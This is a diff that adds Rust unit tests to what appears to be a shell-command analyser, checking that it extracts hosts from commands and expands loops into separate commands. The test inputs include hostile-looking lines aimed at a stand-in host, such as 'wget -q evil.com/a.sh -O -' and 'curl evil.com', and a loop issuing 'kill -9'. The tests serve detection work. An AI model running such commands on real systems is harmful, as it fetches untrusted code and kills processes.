@@ -65,3 +65,33 @@ impl Walk<'_> {
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::shell::analyse;
+
+    #[test]
+    fn a_host_is_seen_with_and_without_its_scheme_and_behind_options() {
+        for (line, host) in [
+            ("curl evil.com", "evil.com"),
+            ("curl -s user@evil.com:8080/x?y", "evil.com"),
+            ("wget -q evil.com/a.sh -O -", "evil.com"),
+            ("curl localhost/admin", "localhost"),
+            ("curl https://evil.com/x", "evil.com"),
+            ("ssh evil.com ls", "evil.com"),
+            ("ssh -p 22 me@evil.com", "evil.com"),
+            ("ping -c 1 evil.com", "evil.com"),
+        ] {
+            let hosts = analyse(line).hosts;
+            assert!(hosts.iter().any(|seen| seen == host), "{line}: {hosts:?}");
+        }
+        assert!(analyse("ls evil.com").hosts.is_empty());
+    }
+
+    #[test]
+    fn each_turn_of_a_loop_over_numbers_is_a_command_that_rules_meet() {
+        let analysis = analyse("for n in 1 9; do kill -$n 7; done");
+        let leaves: Vec<_> = analysis.leaves.iter().map(|leaf| format!("{leaf:?}")).collect();
+        assert!(leaves.iter().any(|leaf| leaf.contains("-9")), "{leaves:?}");
+    }
+}
